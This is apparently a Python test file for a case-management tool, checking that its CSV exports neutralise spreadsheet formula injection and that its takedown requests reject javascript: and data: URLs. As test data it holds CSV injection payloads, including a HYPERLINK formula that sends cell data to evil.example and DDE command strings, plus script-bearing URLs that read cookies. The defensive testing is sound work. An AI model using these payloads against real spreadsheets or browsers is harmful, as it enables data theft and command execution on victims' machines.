"""CSV written from crawled data holds no live formula (OWASP CSV injection), and takedown requests name only
http(s) URLs: `lantian cases export`, the console's CSV export and the takedown URL CSV."""
from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from casework import workflow
from casework.config import load_takedown_config
from casework.console.app import create_app
from casework.export import safe_cell
from casework.takedown import request_takedowns
from core.lead import Lead
from lantian.cli import app
from tests.fixtures.casework import detection, listing
from tests.test_casework_console import _login

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheet programs read as the start of a formula
FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "seller": "+cmd|' /C calc'!A0",
            "location": "-2+3+cmd|' /C calc'!A0", "text": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _confirmed(store: Any, n: int, **fields: Any) -> Lead:
    item = {**listing(n, platform="market"), **fields}
    lead = store.upsert(item, detection(item, phone="+8613800001111"))
    workflow.set_status(store, lead.id, "reviewing", by="alice")
    return workflow.set_status(store, lead.id, "confirmed", by="alice", why="证据充分")


def _rows(data: str) -> list[list[str]]:
    return list(csv.reader(data.splitlines()))[1:]


def _assert_no_formula(rows: list[list[str]]) -> None:
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_a_cell_starting_a_formula_is_kept_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("商标注册 =1") == "商标注册 =1" and safe_cell(-1.5) == -1.5


def test_cases_export_csv(store: Any, tmp_path: Path) -> None:
    lead = _confirmed(store, 1, **FORMULAS)
    out = tmp_path / "cases.csv"
    result = CliRunner().invoke(app, ["cases", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _rows(out.read_text(encoding="utf-8-sig"))
    _assert_no_formula(rows)
    assert "'" + FORMULAS["title"] in rows[0] and "'" + FORMULAS["location"] in rows[0] and lead.id in rows[0]


def test_console_csv_export(store: Any, users_file: Path) -> None:
    _confirmed(store, 1, **FORMULAS)
    client = TestClient(create_app(store, users_file), follow_redirects=True)
    _login(client, "root", "admin-pass-123")
    export = client.get("/admin/export.csv")
    assert export.status_code == 200
    rows = _rows(export.content.decode("utf-8-sig"))
    _assert_no_formula(rows)
    assert "'" + FORMULAS["seller"] in rows[0]


@pytest.mark.usefixtures("office")
def test_takedown_url_csv_and_only_web_urls(store: Any, tmp_path: Path) -> None:
    good = _confirmed(store, 1, **FORMULAS)
    script = _confirmed(store, 2, url="javascript:alert(document.cookie)//http://127.0.0.1:9/item.htm")
    data = _confirmed(store, 3, url="data:text/html,<script>alert(1)</script>")
    result = request_takedowns(store, "market", load_takedown_config(), tmp_path, by="root")
    assert result is not None and result.moved == [good.id]
    assert [reason.split(":")[0] for reason in result.refused] == [script.id, data.id]
    assert "'javascript:alert(document.cookie)//http://127.0.0.1:9/item.htm' is not an http(s) URL" \
        in result.refused[0]
    assert store.get(script.id).status == "confirmed"
    rows = _rows(result.files["csv"].read_text(encoding="utf-8-sig"))
    _assert_no_formula(rows)
    assert [row[0] for row in rows] == [good.url] and rows[0][1] == "'" + FORMULAS["title"]


@pytest.mark.usefixtures("office")
def test_takedown_command_with_only_refused_urls(store: Any, tmp_path: Path) -> None:
    lead = _confirmed(store, 1, url="javascript:alert(1)")
    out = tmp_path / "takedowns"
    result = CliRunner().invoke(app, ["takedown", "--platform", "market", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"skipped {lead.id}: 'javascript:alert(1)' is not an http(s) URL" in result.output
    assert not out.exists() and store.get(lead.id).status == "confirmed"
